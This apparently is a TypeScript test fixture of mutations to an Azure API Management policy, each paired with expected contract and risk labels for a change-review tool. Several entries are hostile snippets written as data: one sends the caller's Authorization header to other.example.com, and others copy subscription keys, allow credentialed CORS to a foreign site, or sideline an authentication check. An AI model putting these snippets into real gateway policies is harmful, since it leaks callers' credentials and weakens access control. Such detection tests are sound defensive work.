import type { Case } from "./expected";

const INBOUND = '<set-variable name="day"';
const OUTBOUND = "<outbound>\n\t\t<base />";
const CHECK = /<check-header[^]*<\/check-header>/;
const VALIDATION =
  '<check-header name="X-Team" failed-check-httpcode="403" failed-check-error-message="no team" ignore-case="true"><value>blue</value></check-header>';

/** A change of the text of the API's policy. */
export interface Effect extends Pick<Case, "title" | "contract" | "risks"> {
  readonly from: string | RegExp;
  readonly to: string;
}

const before = (text: string, added: string) => ({ from: text, to: `${added}\n${text}` });
const after = (text: string, added: string) => ({ from: text, to: `${text}\n${added}` });
const UNKNOWN = ["unknown effect-unknown scores"];

/** Changes of which reviewers were once told that callers are safe. */
export const effects: readonly Effect[] = [
  {
    title: "a check moves into a choose that rarely applies",
    from: CHECK,
    to: `<choose><when condition="@(context.Request.Method == "PURGE")">${VALIDATION}</when></choose>`,
    contract: ["safe check-removed scores", ...UNKNOWN],
    risks: ["authentication-weakened scores"],
  },
  {
    title: "a policy answers every call",
    ...before(INBOUND, '<return-response><set-status code="200" reason="OK" /></return-response>'),
    contract: ["breaking answered-by-policy scores"],
  },
  {
    title: "a policy answers every call with an example",
    ...before(INBOUND, "<mock-response />"),
    contract: ["breaking answered-by-policy scores"],
  },
  {
    title: "only so many calls are let through at a time",
    ...before(
      INBOUND,
      '<limit-concurrency key="all" max-count="3"><set-variable name="x" value="y" /></limit-concurrency>',
    ),
    contract: ["breaking limit-added scores", ...UNKNOWN],
  },
  {
    title: "tokens are limited",
    ...before(INBOUND, '<llm-token-limit counter-key="all" tokens-per-minute="500" estimate-prompt-tokens="false" />'),
    contract: ["breaking limit-added scores"],
  },
  {
    title: "the contents of calls are checked",
    ...before(INBOUND, '<llm-content-safety backend-id="safety" />'),
    contract: ["breaking check-added scores"],
  },
  {
    title: "a call's credential is sent elsewhere",
    ...before(
      INBOUND,
      '<send-one-way-request mode="new"><set-url>@("https://other.example.com/?" + context.Request.Headers.GetValueOrDefault("Authorization", ""))</set-url><set-method>GET</set-method></send-one-way-request>',
    ),
    contract: UNKNOWN,
    risks: ["sent-elsewhere scores", "credentials-passed-on scores"],
  },
  {
    title: "the subscription key is copied into another header",
    ...before(
      INBOUND,
      '<set-header name="X-Copy" exists-action="override"><value>@(context.Request.Headers.GetValueOrDefault("Ocp-Apim-Subscription-Key", ""))</value></set-header>',
    ),
    contract: UNKNOWN,
    risks: ["credentials-passed-on scores"],
  },
  {
    title: "the key of the caller's subscription is passed on",
    ...before(
      INBOUND,
      '<set-header name="X-Copy" exists-action="override"><value>@(context.Subscription?.Key)</value></set-header>',
    ),
    contract: UNKNOWN,
    risks: ["credentials-passed-on scores"],
  },
  {
    title: "a token of the service's identity goes to the backend",
    ...before(INBOUND, '<authentication-managed-identity resource="https://vault.azure.net" />'),
    contract: UNKNOWN,
    risks: ["credentials-passed-on scores"],
  },
  {
    title: "CORS is allowed to a foreign site for some calls",
    ...before(
      INBOUND,
      '<choose><when condition="@(true)"><cors allow-credentials="true"><allowed-origins><origin>https://foreign.example.com</origin></allowed-origins></cors></when></choose>',
    ),
    contract: UNKNOWN,
    risks: ["cors-widened scores"],
  },
  {
    title: "the answer gets another body",
    ...after(OUTBOUND, "<set-body>gone</set-body>"),
    contract: UNKNOWN,
  },
  {
    title: "the answer gets another content type",
    ...after(
      OUTBOUND,
      '<set-header name="Content-Type" exists-action="override"><value>text/plain</value></set-header>',
    ),
    contract: UNKNOWN,
  },
  {
    title: "calls are sent to another path of the backend",
    ...before(INBOUND, '<rewrite-uri template="/other" />'),
    contract: UNKNOWN,
  },
  {
    title: "calls are no longer forwarded",
    from: "<backend>\n\t\t<base />\n\t</backend>",
    to: "<backend />",
    contract: UNKNOWN,
  },
  {
    title: "errors are answered with success",
    ...after("<on-error>\n\t\t<base />", '<set-status code="200" reason="OK" />'),
    contract: UNKNOWN,
  },
  {
    title: "a check takes one more value",
    ...after("<value>blue</value>", "<value>red</value>"),
    contract: ["safe check-loosened scores"],
    risks: ["authentication-weakened scores"],
  },
  {
    title: "a check takes any value",
    from: "<value>blue</value>",
    to: "",
    contract: ["safe check-loosened scores"],
    risks: ["authentication-weakened scores"],
  },
  {
    title: "a check of a token comes",
    ...before(
      INBOUND,
      '<validate-jwt header-name="X-Token"><openid-config url="https://login.example.com" /><issuer-signing-keys><key id="one" certificate-id="c" /></issuer-signing-keys></validate-jwt>',
    ),
    contract: ["breaking check-added scores"],
  },
  {
    title: "what happens is written down",
    ...before(INBOUND, '<trace source="scores"><message>called</message></trace>'),
  },
  {
    title: "what happens is written down by C#, which can fail",
    ...before(INBOUND, '<trace source="scores"><message>@((string)context.Variables["absent"])</message></trace>'),
    contract: UNKNOWN,
  },
];
